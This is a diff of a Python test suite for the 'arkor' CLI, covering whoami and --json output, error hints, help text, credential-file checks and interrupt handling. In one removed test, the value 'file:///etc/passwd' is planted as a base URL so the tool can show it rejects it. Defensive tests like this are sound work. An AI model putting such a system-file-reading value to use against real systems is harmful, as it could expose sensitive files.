+        self.cloud.add_token("anon-token-stored", user={"name": "Zo\u00eb \u7f8e"}, orgs=[{"slug": "caf\u00e9"}])
+        code, out = self.whoami_encoded("ascii", "whoami")
+        self.assertEqual((code, out), (0, b'{\n  "name": "Zo\\xeb \\u7f8e"\n}\nOrgs: caf\\xe9\n'))
+        # --json is ASCII: valid JSON in any encoding.
+        body = {"user": {"name": "Zo\u00eb \U0001f600"}, "orgs": []}
+        self.cloud.script("GET", "/v1/me", Answer(200, body))
+        code, out = self.whoami_encoded("cp1252", "whoami", "--json")
+        self.assertEqual(code, 0)
+        self.assertEqual(json.loads(out.decode("cp1252")), body)
 
     def test_base_url_from_the_file_unless_the_variable_is_set(self) -> None:
         with FakeCloudApi() as other:
@@ -2488,23 +4364,56 @@ class WhoamiTest(Case):
     def test_failed_fetch_is_informational(self) -> None:
         self.sign_in_anon()
         before = self.creds_bytes()
+        me = f"{self.cloud.url}/v1/me"
         anon_hint = (
             "Anonymous tokens are bound to the device that minted them. `arkor login --anonymous`"
             " mints a new anonymous identity (a new workspace).\n"
         )
-        for status in (401, 403, 404, 500, 503):
-            with self.subTest(status=status):
-                self.cloud.script("GET", "/v1/me", Answer(status, {"error": "nope"}))
-                code, out, err = self.run_main("whoami")
-                self.assertEqual(
-                    (code, out, err),
-                    (
-                        0,
-                        f"Failed to fetch /v1/me ({status}). Token may be expired.\n",
-                        anon_hint if status == 401 else "",
-                    ),
-                )
+        not_found = (
+            f"{me} was not found: is the cloud-api base URL right? It is {self.cloud.url} (from ARKOR_CLOUD_API_URL);"
+            " set ARKOR_CLOUD_API_URL to the base, without /v1.\n"
+        )
+        # On stderr, around the stdout line: what the request itself said (401),
+        # and what the status more likely means (404, 5xx).
+        hints = {
+            401: (anon_hint, ""),
+            403: ("", ""),
+            404: ("", not_found),
+            500: ("", f"The cloud-api failed at {me} (500): the token is likely fine; try again later.\n"),
+            503: ("", f"The cloud-api failed at {me} (503): the token is likely fine; try again later.\n"),
+        }
+        for status, (before_line, after_line) in hints.items():
+            for json_flag in ([], ["--json"]):
+                with self.subTest(status=status, argv=json_flag):
+                    self.cloud.script("GET", "/v1/me", Answer(status, {"error": "nope"}))
+                    code, out, err = self.run_main("whoami", *json_flag)
+                    line = f"Failed to fetch /v1/me ({status}). Token may be expired.\n"
+                    if json_flag:  # stdout is for JSON alone
+                        self.assertEqual((code, out, err), (0, "", before_line + line + after_line))
+                    else:
+                        self.assertEqual((code, out, err), (0, line, before_line + after_line))
         self.assertEqual(self.creds_bytes(), before)
+
+    def test_a_base_url_ending_in_v1_is_named(self) -> None:
+        self.sign_in_anon()
+        base = self.cloud.url + "/v1"
+        code, out, err = self.run_main("whoami", ARKOR_CLOUD_API_URL=base)
+        self.assertEqual((code, out), (0, "Failed to fetch /v1/me (404). Token may be expired.\n"))
+        self.assertEqual(
+            err,
+            f"{base}/v1/me was not found: is the cloud-api base URL right? It is {base} (from ARKOR_CLOUD_API_URL);"
+            " set ARKOR_CLOUD_API_URL to the base, without /v1.\n",
+        )
+        # The same base stored in the file: the hint names the file.
+        self.sign_in_anon(base=base)
+        code, out, err = self.run_main("whoami", ARKOR_CLOUD_API_URL=None)
+        self.assertEqual((code, out), (0, "Failed to fetch /v1/me (404). Token may be expired.\n"))
+        self.assertEqual(
+            err,
+            f"{base}/v1/me was not found: is the cloud-api base URL right? It is {base}"
+            f" (from arkorCloudApiUrl in {self.creds}); set ARKOR_CLOUD_API_URL to the base, without /v1.\n",
+        )
+        self.assertEqual([r.path for r in self.cloud.requests], ["/v1/v1/me", "/v1/v1/me"])
 
     def test_unsupported_sdk(self) -> None:
         self.sign_in_anon()
@@ -2527,10 +4436,11 @@ class WhoamiTest(Case):
             (Answer(426, {"error": "other"}), f"Arkor SDK is no longer supported by the cloud API. {COPIED_FIX}\n"),
         ]
         for answer, message in cases:
-            with self.subTest(message):
-                self.cloud.script("GET", "/v1/me", answer)
-                code, out, err = self.run_main("whoami")
-                self.assertEqual((code, out, err), (1, "", message))
+            for json_flag in ([], ["--json"]):
+                with self.subTest(message, argv=json_flag):
+                    self.cloud.script("GET", "/v1/me", answer)
+                    code, out, err = self.run_main("whoami", *json_flag)
+                    self.assertEqual((code, out, err), (1, "", message))
 
     def test_deprecation_warning_after_the_result(self) -> None:
         self.sign_in_anon()
@@ -2559,561 +4469,637 @@ class WhoamiTest(Case):
     def test_deprecation_also_after_a_failure(self) -> None:
         self.sign_in_anon()
         self.cloud.script("GET", "/v1/me", Answer(426, body=b"", headers={"Deprecation": "true"}))
-        code, _, err = self.run_main("whoami")
+        code, out, err = self.run_main("whoami")
         v = arkor_cli.__version__
-        self.assertEqual(code, 1)
+        self.assertEqual((code, out), (1, ""))
         self.assertEqual(
             err,
             f"Arkor SDK is no longer supported by the cloud API. {COPIED_FIX}\n"
             f"Arkor SDK {v} is deprecated (current: {v}). {COPIED_FIX}\n",
         )
 
+    # -- --json ---------------------------------------------------------------
 
-class BadAnswersTest(Case):
-    """Whatever the server does, one clear line and a status, never a crash."""
-
-    def setUp(self) -> None:
-        super().setUp()
+    def test_json_prints_the_whole_body(self) -> None:
         self.sign_in_anon()
-        self.before = self.creds_bytes()
+        body = {"user": {"id": "u1", "name": "Zo\u00eb"}, "orgs": [{"slug": "a"}], "extra": [1, None]}
+        self.cloud.script("GET", "/v1/me", Answer(200, body))
+        code, out, err = self.run_main("whoami", "--json")
+        self.assertEqual((code, err), (0, ""))
+        self.assertEqual(out, json.dumps(body, indent=2) + "\n")  # ASCII: valid JSON in any encoding
 
-    def tearDown(self) -> None:
-        self.assertEqual(self.creds_bytes(), self.before, "whoami changed the credentials file")
-        super().tearDown()
+    def test_json_is_strict_and_faithful(self) -> None:
+        self.sign_in_anon()
 
-    def whoami_fails(self, message: str, **env: str | None) -> None:
-        code, out, err = self.run_main("whoami", **env)
-        self.assertEqual((code, out, err), (1, "", message + "\n"))
+        def refuse(constant: str) -> Any:
+            raise AssertionError(f"{constant} is not JSON")
 
-    def test_wrongly_shaped_bodies(self) -> None:
+        # Huge but finite numbers, text in every script, control and format
+        # characters: all come out as JSON that reads back equal.
+        raw = (
+            b'{"user": {"big": 1.7976931348623157e308, "tiny": -5e-324, "int": 123456789012345678901234567890,'
+            b' "name": "Zo\xc3\xab \xe7\xbe\x8e \xf0\x9f\x98\x80 \\u202e\\u0000\\u001b[31m\\n\\t\\"x\\"",'
+            b' "nested": [[[{}]]], "empty": ""}, "orgs": []}'
+        )
+        self.cloud.script("GET", "/v1/me", Answer(200, body=raw, headers={"Content-Type": "application/json"}))
+        code, out, err = self.run_main("whoami", "--json")
+        self.assertEqual((code, err), (0, ""))
+        self.assertTrue(out.isascii() and "\x1b" not in out, out)
+        self.assertEqual(json.loads(out, parse_constant=refuse), json.loads(raw))
+        # What strict JSON cannot carry is refused, on one line.
+        me = f"{self.cloud.url}/v1/me"
         cases = [
             (
-                Answer(200, body=b"<html><h1>Welcome</h1></html>"),
-                "Unexpected answer from GET /v1/me (200): not JSON: <html><h1>Welcome</h1></html>",
+                b'{"user": {"n": 1e999}}\n{"more": 1}',
+                'not JSON (the number 1e999 is out of range): {"user": {"n": 1e999}}',
             ),
-            (Answer(200, body=b""), "Unexpected answer from GET /v1/me (200): not JSON: (empty body)"),
-            (
-                Answer(200, body=b"\xff\xfe\x00"),
-                "Unexpected answer from GET /v1/me (200): not JSON: \ufffd\ufffd\\u0000",
-            ),
-            (Answer(200, json_body=[]), "Unexpected answer from GET /v1/me (200): not a JSON object."),
-            (Answer(200, {"user": "ada"}), "Unexpected answer from GET /v1/me user (200): not a JSON object."),
-            (Answer(200, {"orgs": []}), "Unexpected answer from GET /v1/me user (200): not a JSON object."),
-            (
-                Answer(200, {"user": {}, "orgs": "o"}),
-                "Unexpected answer from GET /v1/me (200): orgs is not a list of objects.",
-            ),
-            (
-                Answer(200, {"user": {}, "orgs": [1]}),
-                "Unexpected answer from GET /v1/me (200): orgs is not a list of objects.",
-            ),
+            (b'{"user": {"n": -1e999}}', 'not JSON (the number -1e999 is out of range): {"user": {"n": -1e999}}'),
+            (b'{"user": {"n": NaN}}', 'not JSON (NaN is not JSON): {"user": {"n": NaN}}'),
+            (b'{"user": {"n": Infinity}}', 'not JSON (Infinity is not JSON): {"user": {"n": Infinity}}'),
+            (b"<html>\n<title>Oops</title>", "not JSON (Expecting value (line 1, column 1)): an HTML page, 'Oops'"),
+            (b"[1, 2]", "not a JSON object"),
         ]
-        for answer, message in cases:
-            with self.subTest(message):
-                self.cloud.script("GET", "/v1/me", answer)
-                self.whoami_fails(message)
-
-    def test_long_bodies_are_shortened_in_messages(self) -> None:
-        self.cloud.script("GET", "/v1/me", Answer(200, body=b"x" * 5000))
-        code, _, err = self.run_main("whoami")
-        self.assertEqual(code, 1)
-        self.assertEqual(err, "Unexpected answer from GET /v1/me (200): not JSON: " + "x" * 199 + "\u2026\n")
-
-    def test_five_mib_body(self) -> None:
-        self.cloud.script("GET", "/v1/me", Answer(200, body=b'{"user": "' + b"a" * (5 * 1024 * 1024) + b'"}'))
-        self.whoami_fails(
-            f"The answer from GET {self.cloud.url}/v1/me (200) is larger than 1 MiB; refusing to read it."
-        )
-
-    def test_body_cap_stops_reading_early(self) -> None:
-        # A server that promises 100 MiB and stalls after 2: arkor must stop at
-        # the cap at once, not wait for the rest (which would time out).
-        self.cloud.script(
-            "GET", "/v1/me", Answer(200, body=b"a" * (2 * 1024 * 1024), content_length=100 * 1024 * 1024, hold=60)
-        )
-        self.whoami_fails(
-            f"The answer from GET {self.cloud.url}/v1/me (200) is larger than 1 MiB; refusing to read it.",
-            ARKOR_HTTP_TIMEOUT="5",
-        )
-
-    def test_connection_closed_mid_body(self) -> None:
-        self.cloud.script("GET", "/v1/me", Answer(200, body=b'{"user": {"id"', content_length=1000))
-        self.whoami_fails(
-            f"Could not reach {self.cloud.url}/v1/me: the connection closed before the whole answer arrived"
-        )
-
-    def test_connection_refused(self) -> None:
-        url = f"http://127.0.0.1:{free_port()}"
-        self.whoami_fails(f"Could not reach {url}/v1/me: Connection refused", ARKOR_CLOUD_API_URL=url)
-
-    def test_failing_proxy_is_named(self) -> None:
-        port = free_port()
-        for variable in ("HTTP_PROXY", "http_proxy"):
-            with self.subTest(variable=variable):
-                code, out, err = self.run_main("whoami", **{variable: f"http://user:secret@127.0.0.1:{port}"})
-                self.assertEqual((code, out), (1, ""))
-                self.assertEqual(
-                    err,
-                    f"Could not reach {self.cloud.url}/v1/me: Connection refused (through the proxy"
-                    f" http://127.0.0.1:{port} from HTTP_PROXY; set NO_PROXY=127.0.0.1 to go direct)\n",
-                )
-                self.assertNotIn("secret", err)
-        # NO_PROXY sends it direct, and the answer comes.
-        self.cloud.add_token("anon-token-stored", user={"id": "u1"}, orgs=[])
-        code, out, _ = self.run_main("whoami", HTTP_PROXY=f"http://127.0.0.1:{port}", NO_PROXY="127.0.0.1")
-        self.assertEqual((code, out), (0, '{\n  "id": "u1"\n}\n'))
-
-    def test_unresolvable_host(self) -> None:
-        code, out, err = self.run_main("whoami", ARKOR_CLOUD_API_URL="http://no-such-host.invalid")
-        self.assertEqual((code, out), (1, ""))
-        self.assertTrue(
-            err.startswith("Could not reach http://no-such-host.invalid/v1/me: cannot resolve the host name"), err
-        )
-
-    def test_server_that_never_answers(self) -> None:
-        self.cloud.script("GET", "/v1/me", Answer(200, {"user": {}}, delay=60))
-        started = time.monotonic()
-        self.whoami_fails(f"Could not reach {self.cloud.url}/v1/me: timed out", ARKOR_HTTP_TIMEOUT="2")
-        self.assertLess(time.monotonic() - started, 20)  # a hang guard, not a speed claim
-
-    def test_server_that_trickles(self) -> None:
-        # A byte every half second never trips the socket timeout; the whole
-        # answer must still be bounded by ARKOR_HTTP_TIMEOUT.
-        self.cloud.script("GET", "/v1/me", Answer(200, {"user": {"id": "x" * 200}}, trickle=0.5))
-        started = time.monotonic()
-        self.whoami_fails(f"Could not reach {self.cloud.url}/v1/me: timed out", ARKOR_HTTP_TIMEOUT="2")
-        self.assertLess(time.monotonic() - started, 20)  # a hang guard: the body alone would take 110 s
-
-    def test_bad_timeout_setting(self) -> None:
-        for raw in ("soon", "0", "-3", "nan", "inf", "1e300"):
-            with self.subTest(raw=raw):
-                self.whoami_fails(
-                    f"ARKOR_HTTP_TIMEOUT must be a positive number of seconds, not {raw!r}.", ARKOR_HTTP_TIMEOUT=raw
-                )
-        self.assertEqual(self.cloud.requests, [])
-
-    def test_cross_origin_redirect_drops_the_token(self) -> None:
-        with FakeCloudApi() as elsewhere:
-            elsewhere.add_token("anon-token-stored", user={"id": "stolen"}, orgs=[])
-            # 127.0.0.1 and localhost are different origins, as are two ports.
-            for target in (elsewhere.url, f"http://localhost:{self.cloud.port}"):
-                with self.subTest(target=target):
-                    elsewhere.requests.clear()
-                    self.cloud.requests.clear()
-                    self.cloud.script("GET", "/v1/me", Answer.redirect(target + "/v1/me"))
-                    if target.startswith("http://localhost"):
-                        self.cloud.script("GET", "/v1/me", Answer.redirect(target + "/v1/me"), Answer(401))
-                    code, out, _ = self.run_main("whoami")
-                    self.assertEqual(code, 0)
-                    self.assertEqual(out, "Failed to fetch /v1/me (401). Token may be expired.\n")
-                    followed = elsewhere.requests if target == elsewhere.url else self.cloud.requests[1:]
-                    self.assertEqual(len(followed), 1, "the redirect was not followed")
-                    self.assertNotIn("authorization", followed[0].headers)
-
-    def test_same_origin_redirect_keeps_the_token(self) -> None:
-        self.cloud.add_token("anon-token-stored", user={"id": "u1"}, orgs=[])
-        self.cloud.script("GET", "/v1/me", Answer.redirect("/v1/me"), Answer(200, {"user": {"id": "u1"}, "orgs": []}))
-        code, out, _ = self.run_main("whoami")
-        self.assertEqual((code, out), (0, '{\n  "id": "u1"\n}\n'))
-        second = self.cloud.requests[1]
-        self.assertEqual(second.headers["authorization"], "Bearer anon-token-stored")
-
-    def test_bad_base_url_in_the_file(self) -> None:
-        data = json.loads(self.before)
-        data["arkorCloudApiUrl"] = "file:///etc/passwd"
-        self.before = self.write_creds(data)
-        self.whoami_fails(
-            f"arkorCloudApiUrl in {self.creds} is not an http(s) URL: 'file:///etc/passwd'.", ARKOR_CLOUD_API_URL=None
-        )
+        for body, what in cases:
+            with self.subTest(body=body):
+                self.cloud.script("GET", "/v1/me", Answer(200, body=body))
+                code, out, err = self.run_main("whoami", "--json")
+                self.assertEqual((code, out, err), (1, "", f"Unexpected answer from GET {me} (200): {what}.\n"))
 
 
-class CredentialsFileTest(Case):
-    def assert_whoami_names_the_file(self, reason: str) -> None:
-        code, out, err = self.run_main("whoami")
-        self.assertEqual((code, out), (1, ""))
-        self.assertEqual(err, reason + "\n")
-        self.assertEqual(self.cloud.requests, [])
+# ---------------------------------------------------------------------------
+# main: the command line, signals, pipes, imports
+# ---------------------------------------------------------------------------
 
-    def test_bad_contents_are_named_and_kept(self) -> None:
-        valid = {
-            "mode": "anon",
-            "token": "t-secret",
-            "anonymousId": "a",
-            "arkorCloudApiUrl": "http://x",
-            "orgSlug": "o",
+
+# The environment variables that `arkor --help` documents: each one arkor reads
+# to be configured. HOME and USERPROFILE are read through a variable name, so
+# the scan of the source below cannot see them; they are listed here.
+CLI_DOCUMENTED_ENV = (
+    "ARKOR_CLOUD_API_URL",
+    "ARKOR_HTTP_TIMEOUT",
+    "ARKOR_DEBUG",
+    "CI",
+    "BROWSER",
+    "DISPLAY",
+    "WAYLAND_DISPLAY",
+    "HTTPS_PROXY",
+    "HTTP_PROXY",
+    "NO_PROXY",
+    "SSL_CERT_FILE",
+    "SSL_CERT_DIR",
+    "NO_COLOR",
+    "HOME",
+    "USERPROFILE",
+)
+# Read only to tell the platform apart, set by the terminal or by WSL, never by
+# a user configuring arkor: not in the help. Any other variable read must be.
+CLI_PLATFORM_ENV = frozenset({"TERM", "WT_SESSION", "WSL_DISTRO_NAME", "WSLENV"})
+
+CLI_USAGE = {
+    None: "usage: arkor [-h] [--version] <command> ...\n",
+    "login": "usage: arkor login [-h] [--oauth] [--anonymous] [--no-browser]\n                   [--timeout SECONDS]\n",
+    "logout": "usage: arkor logout [-h] [-y]\n",
+    "whoami": "usage: arkor whoami [-h] [--json]\n",
+}
+
+
+def cli_env_names_read(source: str) -> set[str]:
+    """Every environment variable ``source`` reads by a literal name, from
+    any mapping whose name ends in ``env`` or ``environ``: ``env.get("X")``,
+    ``env["X"]``, ``"X" in env``, ``os.getenv("X")``. Writes
+    (``child_env["X"] = ...``) are not reads."""
+    name = r'"([A-Z][A-Z0-9_]*)"'
+    mapping = r"\b\w*(?:env|environ)"
+    patterns = (
+        rf"{mapping}\.get\(\s*{name}",
+        rf"{mapping}\[\s*{name}\s*\](?!\s*=[^=])",
+        rf"\bgetenv\(\s*{name}",
+        rf"{name}\s+(?:not\s+)?in\s+[\w.]*(?:env|environ)\b",
+    )
+    return {m for p in patterns for m in re.findall(p, source)}
+
+
+class CommandLineTest(Case):
+    def test_version(self) -> None:
+        code, out, err = self.run_main("--version")
+        self.assertEqual((code, out, err), (0, f"arkor {arkor_cli.__version__}\n", ""))
+
+    def test_help_of_every_command_lists_its_options(self) -> None:
+        # Each option spelled out: a new one must be added here, and so is
+        # seen to be in its command's help.
+        options = {
+            None: ["-h, --help", "--version"],
+            "login": ["-h, --help", "--oauth", "--anonymous", "--no-browser", "--timeout SECONDS"],
+            "logout": ["-h, --help", "-y, --yes, -f, --force"],
+            "whoami": ["-h, --help", "--json"],
         }
-        self.secrets.append("t-secret")
-        cases = [
-            (b"{not json", "not JSON: Expecting property name enclosed in double quotes at line 1"),
-            (b"", "not JSON: Expecting value at line 1"),
-            (b"\xff\xfe garbage", "not UTF-8 text"),
-            (b"[]", "not a JSON object"),
-            (json.dumps({"token": "x"}).encode(), "no mode"),
-            (json.dumps(dict(valid, mode="magic")).encode(), "unknown mode 'magic'"),
-            (json.dumps(dict(valid, mode=None)).encode(), "unknown mode None"),
-            (json.dumps({k: v for k, v in valid.items() if k != "token"}).encode(), "missing token"),
-            (json.dumps(dict(valid, orgSlug=3)).encode(), "orgSlug has the wrong type"),
-            (json.dumps(dict(self.auth0_creds(), expiresAt="soon")).encode(), "expiresAt has the wrong type"),
-            (json.dumps(dict(self.auth0_creds(), expiresAt=True)).encode(), "expiresAt has the wrong type"),
-            (
-                json.dumps({k: v for k, v in self.auth0_creds().items() if k != "refreshToken"}).encode(),
-                "missing refreshToken",
-            ),
+        for command, expected in options.items():
+            name = [command] if command else []
+            for flag in ("-h", "--help"):
+                with self.subTest(command=command, flag=flag):
+                    code, out, err = self.run_main(*name, flag, COLUMNS="80")
+                    self.assertEqual((code, err), (0, ""))
+                    self.assertTrue(out.startswith(CLI_USAGE[command] + "\n"), out)
+                    section = re.split(r"\n(?:options|optional arguments):\n", out)[1].split("\n\n")[0]
+                    listed = [
+                        re.split(r"\s{2,}", line.strip())[0] for line in section.splitlines() if line.startswith("  -")
+                    ]
+                    self.assertEqual(listed, expected)
+        code, out, _ = self.run_main("--help", COLUMNS="80")
+        commands = out.split("\ncommands:\n", 1)[1].split("\n\n", 1)[0]
+        self.assertEqual(
+            commands,
+            "  <command>\n"
+            "    login     Sign in (OAuth in the browser, or an anonymous token).\n"
+            "    logout    Delete the stored credentials.\n"
+            "    whoami    Show the signed-in identity and its orgs.",
+        )
+        self.assertEqual(self.cloud.requests, [])
+        self.assertFalse(os.path.exists(self.arkor_dir))
+
+    def test_help_lists_every_environment_variable_read(self) -> None:
+        code, out, _ = self.run_main("--help")
+        self.assertEqual(code, 0)
+        block = out.split("\nenvironment:\n", 1)[1].split("\n\n", 1)[0]
+        documented = set(re.findall(r"\b[A-Z][A-Z0-9_]+\b", block))
+        for variable in CLI_DOCUMENTED_ENV:
+            with self.subTest(variable=variable):
+                self.assertIn(variable, documented)
+        with open(MODULE, encoding="utf-8") as f:
+            read = cli_env_names_read(f.read())
+        self.assertLessEqual({"ARKOR_CLOUD_API_URL", "ARKOR_HTTP_TIMEOUT", "CI", "NO_COLOR"}, read)  # the scan sees
+        self.assertEqual(sorted(read - documented - CLI_PLATFORM_ENV), [], "read, but not in `arkor --help`")
+
+    def test_no_command_is_a_usage_error(self) -> None:
+        code, out, err = self.run_main(COLUMNS="80")
+        self.assertEqual(
+            (code, out, err),
+            (2, "", CLI_USAGE[None] + "arkor: error: the following arguments are required: <command>\n"),
+        )
+        self.assertFalse(os.path.exists(self.arkor_dir))
+
+    def test_usage_errors_exit_2(self) -> None:
+        cases = {
+            ("--bogus",): (None, "arkor: error: the following arguments are required: <command>"),
+            ("--bogus", "whoami"): (None, "arkor: error: unrecognized arguments: --bogus"),
+            ("-x", "whoami"): (None, "arkor: error: unrecognized arguments: -x"),
+            ("whoami", "whoami"): (None, "arkor: error: unrecognized arguments: whoami"),
+            ("whoami", "--jsn"): (None, "arkor: error: unrecognized arguments: --jsn"),
+            ("logout", "--yes", "now"): (None, "arkor: error: unrecognized arguments: now"),
+            ("login", "--timeout"): ("login", "arkor login: error: argument --timeout: expected one argument"),
+        }
+        for argv, (command, error) in cases.items():
+            with self.subTest(argv=argv):
+                code, out, err = self.run_main(*argv, COLUMNS="80")
+                self.assertEqual((code, out, err), (2, "", CLI_USAGE[command] + error + "\n"))
+        # Only the start: the list of choices is quoted differently across Pythons.
+        code, out, err = self.run_main("frobnicate", COLUMNS="80")
+        self.assertEqual((code, out), (2, ""))
+        self.assertTrue(
+            err.startswith(CLI_USAGE[None] + "arkor: error: argument <command>: invalid choice: 'frobnicate' ("), err
+        )
+        self.assertEqual(self.cloud.requests, [])
+
+    def test_login_timeout_must_be_positive_and_at_most_a_week(self) -> None:
+        cases = {
+            "1e9": "more than a week (604800 seconds): '1e9'",
+            "inf": "more than a week (604800 seconds): 'inf'",
+            "0": "not a positive number of seconds: '0'",
+            "-1": "not a positive number of seconds: '-1'",
+            "abc": "not a positive number of seconds: 'abc'",
+            "nan": "not a positive number of seconds: 'nan'",
+        }
+        for value, problem in cases.items():
+            with self.subTest(value=value):
+                code, out, err = self.run_main("login", "--timeout", value, COLUMNS="80")
+                self.assertEqual(
+                    (code, out, err),
+                    (2, "", CLI_USAGE["login"] + f"arkor login: error: argument --timeout: {problem}\n"),
+                )
+        self.assertEqual(self.cloud.requests, [])
+        self.assertFalse(os.path.exists(self.arkor_dir))
+
+    def test_bad_http_timeout_is_one_line(self) -> None:
+        self.sign_in_anon()
+        cases = {
+            "abc": "ARKOR_HTTP_TIMEOUT is not a positive number of seconds: 'abc'.\n",
+            "1e9": "ARKOR_HTTP_TIMEOUT is more than a week (604800 seconds): '1e9'.\n",
+        }
+        for value, line in cases.items():
+            with self.subTest(value=value):
+                code, out, err = self.run_main("whoami", ARKOR_HTTP_TIMEOUT=value)
+                self.assertEqual((code, out, err), (1, "", line))
+        self.assertEqual(self.cloud.requests, [])
+
+    def test_main_returns_instead_of_exiting(self) -> None:
+        # A caller embedding main() gets a status back, never a SystemExit
+        # (run_main would let one through and fail the test).
+        for argv, status in ((["--version"], 0), (["--help"], 0), (["--bogus"], 2), ([], 2), (["whoami"], 0)):
+            with self.subTest(argv=argv):
+                code, _, _ = self.run_main(*argv)
+                self.assertIs(type(code), int)
+                self.assertEqual(code, status)
+
+    def test_three_ways_to_run(self) -> None:
+        # The one file alone in an empty folder under -I (no site, no
+        # PYTHON* variables), the module with -m, and import (run_main).
+        folder = tempfile.mkdtemp()
+        self.addCleanup(shutil.rmtree, folder, True)
+        shutil.copy(MODULE, folder)
+        runs = [
+            ([sys.executable, "-I", os.path.join(folder, "arkor_cli.py"), "whoami"], folder, NOT_SIGNED_IN),
+            ([sys.executable, "-m", "arkor_cli", "--version"], HERE, f"arkor {arkor_cli.__version__}\n"),
         ]
-        for raw, what in cases:
-            with self.subTest(what=what):
-                before = self.write_creds(raw)
-                if what == "not UTF-8 text":
-                    message = f"{self.creds} does not hold valid arkor credentials (not UTF-8 text)."
-                else:
-                    message = (
-                        f"{self.creds} does not hold valid arkor credentials ({what})."
-                        " Fix it, or sign in again with `arkor login`."
-                    )
-                self.assert_whoami_names_the_file(message)
-                self.assertEqual(self.creds_bytes(), before)
+        procs = [
+            subprocess.Popen(
+                cmd,
+                cwd=cwd,
+                env=self.env(),
+                stdin=subprocess.DEVNULL,
+                stdout=subprocess.PIPE,
+                stderr=subprocess.PIPE,
+                text=True,
+            )
+            for cmd, cwd, _ in runs
+        ]
+        for proc, (cmd, _, expected) in zip(procs, runs):
+            with self.subTest(cmd=cmd[1:3]):
+                out, err = proc.communicate(timeout=30)
+                self.assertEqual((proc.returncode, out, err), (0, expected, ""))
+        self.assertEqual(self.run_main("--version"), (0, f"arkor {arkor_cli.__version__}\n", ""))
 
-    def test_directory_in_place_of_the_file(self) -> None:
-        os.makedirs(self.creds)
-        code, out, err = self.run_main("whoami")
-        self.assertEqual((code, out), (1, ""))
-        self.assertTrue(err.startswith(f"Cannot read {self.creds}: "), err)
-        self.assertTrue(os.path.isdir(self.creds))
-        # login cannot replace a directory either: it says so and leaves no temp file
-        code, out, err = self.run_main("login", "--anonymous")
-        self.assertEqual((code, out), (1, ""))
-        self.assertTrue(err.startswith(f"Could not write {self.creds}: "), err)
-        self.assertTrue(os.path.isdir(self.creds))
-        self.assertEqual(self.leftovers(), [])
+    @unittest.skipUnless(hasattr(sys, "stdlib_module_names"), "Python 3.10+ lists the standard library")
+    def test_standard_library_only(self) -> None:
+        # Anywhere in the file, type-checking blocks included.
+        import ast
 
-    @unittest.skipUnless(POSIX and hasattr(os, "geteuid") and os.geteuid() != 0, "root reads mode-000 files")
-    def test_unreadable_file(self) -> None:
-        self.sign_in_anon()
-        os.chmod(self.creds, 0)
-        self.addCleanup(os.chmod, self.creds, 0o600)
+        with open(MODULE, encoding="utf-8") as f:
+            tree = ast.parse(f.read())
+        found = set()
+        for node in ast.walk(tree):
+            if isinstance(node, ast.Import):
+                found.update(alias.name.split(".")[0] for alias in node.names)
+            elif isinstance(node, ast.ImportFrom) and node.level == 0 and node.module:
+                found.add(node.module.split(".")[0])
+        stdlib = set(getattr(sys, "stdlib_module_names", ()))  # 3.10+, as the decorator says
+        self.assertIn("json", found)
+        self.assertEqual(found - stdlib - {"__future__"}, set())
+
+    def test_internal_error_is_one_line(self) -> None:
+        # A bug must still end in one line and status 1, not a traceback;
+        # ARKOR_DEBUG=1 puts the traceback before that line.
+        line = "Internal error (RuntimeError). Set ARKOR_DEBUG=1 to see the traceback, and report it.\n"
+        with mock.patch.object(arkor_cli, "_read_credentials", side_effect=RuntimeError("secret-ish")):
+            code, out, err = self.run_main("whoami")
+            self.assertEqual((code, out, err), (1, "", line))
+            code, out, err = self.run_main("whoami", ARKOR_DEBUG="1")
+        self.assertEqual((code, out), (1, ""))
+        self.assertTrue(err.startswith("Traceback (most recent call last):\n"), err)
+        self.assertIn("\nRuntimeError: secret-ish\n", err)
+        self.assertTrue(err.endswith("\n" + line), err)
+
+    def test_debug_adds_traceback_to_an_error(self) -> None:
+        self.write_creds(b"{not json")
+        code, _, err = self.run_main("whoami", ARKOR_DEBUG="1")
+        self.assertEqual(code, 1)
+        self.assertTrue(err.startswith("Traceback (most recent call last):\n"), err)
         code, _, err = self.run_main("whoami")
-        self.assertEqual((code, err), (1, f"Cannot read {self.creds}: Permission denied.\n"))
-
-    def test_arkor_dir_is_a_plain_file(self) -> None:
-        with open(self.arkor_dir, "w") as f:
-            f.write("not a directory")
-        code, out, err = self.run_main("login", "--anonymous")
-        self.assertEqual((code, out), (1, ""))
-        self.assertTrue(err.startswith(f"Could not create {self.arkor_dir}: "), err)
-        code, out, err = self.run_main("whoami")
         self.assertEqual(code, 1)
-        self.assertTrue(err.startswith(f"Cannot read {self.creds}: "), err)
+        self.assertNotIn("Traceback", err)
+        self.assertEqual(len(err.splitlines()), 1, err)
 
-    @unittest.skipUnless(POSIX, "symlinks need privileges on Windows")
-    def test_a_symlinked_file_is_replaced_not_written_through(self) -> None:
-        os.makedirs(self.arkor_dir)
-        victim = os.path.join(self.home, "victim.txt")
-        with open(victim, "w") as f:
-            f.write("precious")
-        os.symlink(victim, self.creds)
-        code, _, _ = self.run_main("login", "--anonymous")
-        self.assertEqual(code, 0)
-        with open(victim) as f:
-            self.assertEqual(f.read(), "precious")
-        self.assertFalse(os.path.islink(self.creds))
-        self.assertEqual(self.read_creds()["mode"], "anon")
 
-    def test_write_failure_leaves_old_file_and_no_temp(self) -> None:
-        # The disk fills up half way: the old file must survive whole.
-        self.sign_in_anon()
-        before = self.creds_bytes()
-        with mock.patch.object(os, "fsync", side_effect=OSError(28, "No space left on device")):
-            code, _out, err = self.run_main("login", "--anonymous")
-        self.assertEqual(code, 1)
-        self.assertEqual(err, f"Could not write {self.creds}: No space left on device.\n")
-        self.assertEqual(self.creds_bytes(), before)
+# Runs the command after it in a session of its own whose controlling
+# terminal is its stdin, so that Ctrl-C typed on that terminal reaches it as
+# SIGINT from the terminal driver, echo and all, as in a shell.
+INTERRUPT_CTTY = (
+    "import fcntl, os, sys, termios\n"
+    "os.setsid()\n"
+    "fcntl.ioctl(0, termios.TIOCSCTTY, 0)\n"
+    "os.execv(sys.executable, [sys.executable] + sys.argv[1:])\n"
+)
+
+
+class InterruptTest(OAuthCase):
+    @unittest.skipUnless(POSIX, "SIGINT delivery to a child is POSIX here")
+    def test_ctrl_c_exits_130_quietly(self) -> None:
+        # stderr a pipe: the one line, no blank line before it.
+        self.cloud.script("POST", "/v1/auth/anonymous", Answer(201, {}, delay=30))
+        proc = self.spawn("login", "--anonymous")
+        self.wait_until(lambda: self.cloud.seen("POST", "/v1/auth/anonymous"), 10)
+        proc.send_signal(signal.SIGINT)
+        out, err = proc.communicate(timeout=10)
+        self.assertEqual((proc.returncode, out, err), (130, "", "Interrupted.\n"))
